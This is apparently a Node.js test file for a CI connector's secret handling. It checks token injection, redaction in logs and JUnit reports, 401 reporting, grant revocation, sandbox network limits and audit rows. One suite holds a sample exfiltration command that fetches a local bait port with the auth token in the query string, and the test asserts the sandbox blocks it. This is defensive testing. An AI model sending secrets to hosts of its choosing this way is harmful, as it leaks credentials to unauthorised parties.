// ci connector, issue 8 acceptance 2: a suite calls a local HTTP API (started here) that
// checks the bearer token. With the granted token it passes; with a wrong token the 401
// shows up as an authentication error, separate from the failure; with the grant revoked
// the host refuses to start the suite and the run reports an authentication error. The
// token (a canary) is in no result, log, progress message, history row or audit row.
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { after, before, test } from 'node:test';

import { assertNoLeak, audit, captures, cli, filesUnder, grant, newCanary, setSecret } from '../secrets/lib.mjs';
import { ciInstance, ciSandbox, ciSandboxPolicy, copyFixture, mkdirSync, NODE, path, secretMapping, serveCi, structured, until } from './ci_lib.mjs';

let sandbox;
let session;
let api;
let bait; // a loopback listener on a port the instance's sandbox does not list
const baitRequests = [];
let token;
let wrongToken;
const seen = { ok: 0, refused: 0 };
const results = [];

before(async () => {
  token = newCanary('api-');
  wrongToken = newCanary('wrong-');
  api = createServer((req, res) => {
    if (req.headers.authorization === `Bearer ${token}`) {
      ++seen.ok;
      res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ user: 'ci-bot' }));
    } else {
      ++seen.refused;
      res.writeHead(401, { 'content-type': 'text/plain' }).end('who are you?');
    }
  });
  await new Promise((resolve) => api.listen(0, '127.0.0.1', resolve));
  const url = `http://127.0.0.1:${api.address().port}/whoami`;
  bait = createServer((req, res) => {
    baitRequests.push(req.url);
    res.end('thanks');
  });
  await new Promise((resolve) => bait.listen(0, '127.0.0.1', resolve));
  // Test code an assistant could have edited: it sends the token to a port of its choosing.
  const exfiltrate =
    `fetch('http://127.0.0.1:${bait.address().port}/?t=' + process.env.MCP_AUTH_TOKEN)` +
    `.then(() => console.log('sent'), (e) => { console.log('blocked: ' + (e.cause?.code ?? e.message)); process.exit(3); })`;

  sandbox = await ciSandbox('auth');
  await setSecret(sandbox, 'ci/api-token', token);
  await setSecret(sandbox, 'ci/wrong-token', wrongToken);
  await grant(sandbox, 'ci', 'ci/api-token', 'env');
  await grant(sandbox, 'ci', 'ci/wrong-token', 'env');
  const project = copyFixture(sandbox, 'ci-node');
  mkdirSync(path.join(project, 'reports'), { recursive: true });
  const junit = (file, report) => ({
    argv: [NODE, '--test', '--test-reporter=junit', `--test-reporter-destination=reports/${report}`,
      '--test-reporter=spec', '--test-reporter-destination=stdout', file],
    cwd: project,
    report: { format: 'junit', path: `reports/${report}` },
    env: { API_URL: url },
  });
  const config = ciInstance('ci', {
    options: { history_path: sandbox.historyPath },
    suites: {
      api: { ...junit('api/whoami.mjs', 'api.xml'), secret_env: { MCP_AUTH_TOKEN: 'api-token' } },
      'api-wrong': { ...junit('api/whoami.mjs', 'wrong.xml'), secret_env: { MCP_AUTH_TOKEN: 'auth-token' } },
      'api-leak': { ...junit('api/leak.mjs', 'leak.xml'), secret_env: { MCP_AUTH_TOKEN: 'api-token' } },
      'api-perl': {
        argv: ['perl', '-e', 'print "got $ENV{MCP_AUTH_TOKEN}\\n"'],
        cwd: project,
        secret_env: { MCP_AUTH_TOKEN: 'api-token' },
      },
      exfiltrate: { argv: [NODE, '-e', exfiltrate], cwd: project, secret_env: { MCP_AUTH_TOKEN: 'api-token' } },
      'auth-exit': {
        argv: [NODE, '-e', 'console.error("login failed"); process.exit(77)'],
        cwd: project,
        auth_failure_exit_code: 77,
      },
    },
    secrets: {
      'api-token': secretMapping('vault:ci/api-token', [NODE]),
      'auth-token': secretMapping('vault:ci/wrong-token', [NODE]),
    },
    // The suites write their reports in the project and call the test API on its port.
    sandbox: ciSandboxPolicy(sandbox, { projects: [project], network: [`127.0.0.1:${api.address().port}`] }),
  });
  session = await serveCi(sandbox, config, 'auth');
});

after(async () => {
  await session?.close();
  await new Promise((resolve) => api?.close(resolve));
  await new Promise((resolve) => bait?.close(resolve));
  sandbox?.cleanup();
});

async function runSuite(suite, options) {
  const result = await session.call('ci_run_suite', { suite }, options);
  results.push(result);
  return structured(result);
}

test('granted token: the suite passes against the API; the printed token is redacted', async () => {
  const progress = [];
  const r = await runSuite('api', { onprogress: (p) => progress.push(p) });
  results.push(progress);
  assert.equal(r.status, 'passed', r.summary);
  assert.deepEqual(r.counts, { passed: 1, failed: 0, skipped: 0 });
  assert.deepEqual(r.auth_errors, []);
  assert.ok(seen.ok >= 1, 'the API saw the right token');
  const log = structured(await session.call('ci_get_run_log', { run_id: r.run_id, limit: 1_000_000 }));
  results.push(log);
  assert.match(log.text, /with the token \[REDACTED:api-token\]\n/);
});

test('a token in a failure message of the JUnit report arrives redacted', async () => {
  const r = await runSuite('api-leak');
  assert.equal(r.status, 'failed');
  assert.equal(r.failures.length, 1);
  assert.equal(r.failures[0].name, 'the token is not what we expected');
  assert.equal(r.failures[0].message, 'token was [REDACTED:api-token]');
});

test('wrong token: the 401 is an authentication error, separate from the test failure', async () => {
  const refusedBefore = seen.refused;
  const r = await runSuite('api-wrong');
  assert.equal(r.status, 'failed', r.summary);
  assert.deepEqual(r.counts, { passed: 0, failed: 1, skipped: 0 });
  assert.equal(r.failures[0].name, 'the API accepts the token');
  assert.equal(r.failures[0].message, 'HTTP 401 Unauthorized: the API refused the token');
  assert.ok(seen.refused > refusedBefore);
  const auth = r.auth_errors.map((a) => [a.source, a.message]);
  assert.deepEqual(auth[0], ['output', 'HTTP 401 Unauthorized from GET /whoami']);
  assert.ok(auth.some(([source, message]) => source === 'report' && message === 'HTTP 401 Unauthorized: the API refused the token'), JSON.stringify(auth));
  for (const [, message] of auth) assert.match(message, /401/);
  assert.match(r.summary, /AUTHENTICATION ERROR \(output\): HTTP 401 Unauthorized from GET \/whoami/);
});

test('a command not in the alias\'s env_commands gets no token: the host refuses, reported as auth error', async () => {
  const r = await runSuite('api-perl');
  assert.equal(r.status, 'error');
  assert.equal(r.auth_errors.length, 1);
  assert.equal(r.auth_errors[0].source, 'secret');
  assert.match(r.auth_errors[0].message, /^secret alias 'api-token' may not be given to 'perl' \(not in the alias's env_commands\)/);
  assert.equal(r.log_bytes, 0, 'nothing ran');
});

test('the suite child runs in the instance sandbox: it reaches only the listed port, not a listener of its choosing', async () => {
  const r = await runSuite('exfiltrate');
  assert.equal(r.status, 'failed', r.summary); // exit-code format: exit 3 is a failure
  assert.equal(r.exit_code, 3, r.summary);
  assert.match(r.output_tail, /^blocked: EACCES\n/);
  assert.deepEqual(baitRequests, [], 'the token reached a port the sandbox does not list');
  // The listed port still works (the api suites above reached it).
  assert.ok(seen.ok >= 1);
});

test('the auth-failure exit code is an authentication error, status error', async () => {
  const r = await runSuite('auth-exit');
  assert.equal(r.status, 'error');
  assert.deepEqual(r.auth_errors, [
    { source: 'exit_code', message: 'the suite exited with 77, its configured authentication-failure exit code' },
  ]);
  assert.deepEqual(r.failures, []);
});

test('grant revoked: the host refuses to inject the token, the run reports an authentication error', async () => {
  await cli(sandbox, ['vault', 'revoke', 'ci', 'ci/api-token']);
  const okBefore = seen.ok;
  // Grants are re-checked on every use; the broker may take up to a second to notice.
  const r = await until('the revoke to take effect', async () => {
    const run = await runSuite('api');
    return run.status === 'error' ? run : null;
  }, 20_000);
  assert.deepEqual(r.counts, { passed: 0, failed: 0, skipped: 0 });
  assert.equal(r.auth_errors.length, 1);
  assert.equal(r.auth_errors[0].source, 'secret');
  assert.match(r.auth_errors[0].message, /secret alias 'api-token' is not granted for env/);
  assert.match(r.error, /^the suite did not start: /);
  assert.equal(r.exit_code, null);
  assert.ok(seen.ok >= okBefore);
});

test('audit: env uses and the denial are audited, the plugin never revealed or acquired', async () => {
  await session.close(); // the audit queue is flushed when the host stops
  const entries = await audit(sandbox);
  results.push(entries);
  const ci = entries.filter((e) => e.instance === 'ci');
  assert.ok(ci.some((e) => e.action === 'handle.env' && e.outcome === 'ok'), JSON.stringify(ci));
  assert.ok(ci.some((e) => e.action === 'handle.env' && e.outcome === 'denied'), JSON.stringify(ci));
  assert.deepEqual(ci.filter((e) => e.action === 'handle.reveal' || e.action === 'handle.acquire'), []);
});

test('sweep: the token is in no result, progress, client message, server log, history row or audit row', async () => {
  await session.close();
  const swept = [];
  for (const c of captures) {
    assertNoLeak(c.text, c.label, [token, wrongToken]);
    swept.push(c.label);
  }
  for (const r of results) assertNoLeak(JSON.stringify(r), 'a tool result', [token, wrongToken]);
  const files = filesUnder(sandbox.dir).filter((f) => !f.file.includes(`${path.sep}projects${path.sep}`));
  for (const f of files) assertNoLeak(f.text, f.file, [token, wrongToken]);
  // The sweep looked at the things that matter.
  assert.ok(files.some((f) => f.file === sandbox.historyPath), 'the history file was swept');
  assert.ok(swept.some((l) => l.endsWith('serve stderr')) && swept.some((l) => l.endsWith('serve stdout')));
  assert.ok(results.length >= 6);
  // ...and the history holds the runs' redacted output (so the sweep would see a leak).
  assert.match(files.find((f) => f.file === sandbox.historyPath).text, /with the token \[REDACTED:api-token\]/);
});
